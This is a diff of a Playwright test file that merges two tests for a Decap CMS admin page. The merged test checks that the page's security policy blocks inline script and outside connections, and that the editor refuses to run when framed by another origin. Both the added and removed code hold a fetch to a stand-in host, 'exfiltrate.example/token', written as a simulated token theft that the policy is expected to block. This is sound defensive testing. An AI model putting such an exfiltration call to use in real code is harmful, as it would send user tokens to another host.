@@ -57,15 +57,31 @@ test.afterAll(() => {
   other?.close()
 })
 
-test("framed by another origin on a host without headers, /admin does not start the editor and says why", async ({ page }) => {
+test("on a host without headers, /admin's own policy is in force (no inline script, no connection to another host); framed by another origin, it does not start the editor and says why", async ({
+  page,
+}) => {
   // Decap's bundle is parsed twice: on its own, then in the frame.
   test.setTimeout(120_000)
+  const violations: string[] = []
+  await watchPolicyViolations(page, (violation) => violations.push(violation))
   const response = await page.goto(adminUrl)
   // The host sends no policy and no X-Frame-Options: only the page itself can refuse.
   expect(response?.headers()["content-security-policy"]).toBeUndefined()
   expect(response?.headers()["x-frame-options"]).toBeUndefined()
   // On its own, the editor starts: Decap's sign-in button.
   await expect(page.getByRole("button", { name: PT_PT_OVERRIDES.auth.loginWithGitHub })).toBeVisible({ timeout: 30_000 })
+  const outcome = await page.evaluate(async () => {
+    const script = document.createElement("script")
+    script.textContent = "window.__inlineRan = true"
+    document.body.append(script)
+    const fetched = await fetch("https://exfiltrate.example/token").then(
+      () => "sent",
+      () => "blocked",
+    )
+    return { inlineRan: (window as any).__inlineRan === true, fetched }
+  })
+  expect(outcome).toEqual({ inlineRan: false, fetched: "blocked" })
+  await expect.poll(() => violations.join(" | ")).toMatch(/script-src-elem inline.*\| connect-src https:\/\/exfiltrate\.example/)
 
   await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`, { waitUntil: "domcontentloaded" })
   const frame = page.frameLocator("iframe")
@@ -79,25 +95,4 @@ test("framed by another origin on a host without headers, /admin does not start 
   await expect(frame.getByRole("button")).toHaveCount(0)
   await expect(frame.locator("#nc-root")).toHaveCount(0)
   await expect(frame.getByText(PT_PT_OVERRIDES.auth.loginWithGitHub)).toHaveCount(0)
-})
-
-test("served without headers, /admin's own policy is in force: no inline script, no connection to another host", async ({ page }) => {
-  const violations: string[] = []
-  await watchPolicyViolations(page, (violation) => violations.push(violation))
-  // Decap is not needed to judge the page's policy.
-  await page.route("**/admin/assets/decap/**", (route) => route.abort())
-  const response = await page.goto(adminUrl)
-  expect(response?.headers()["content-security-policy"]).toBeUndefined()
-  const outcome = await page.evaluate(async () => {
-    const script = document.createElement("script")
-    script.textContent = "window.__inlineRan = true"
-    document.body.append(script)
-    const fetched = await fetch("https://exfiltrate.example/token").then(
-      () => "sent",
-      () => "blocked",
-    )
-    return { inlineRan: (window as any).__inlineRan === true, fetched }
-  })
-  expect(outcome).toEqual({ inlineRan: false, fetched: "blocked" })
-  await expect.poll(() => violations.join(" | ")).toMatch(/script-src-elem inline.*\| connect-src https:\/\/exfiltrate\.example/)
 })
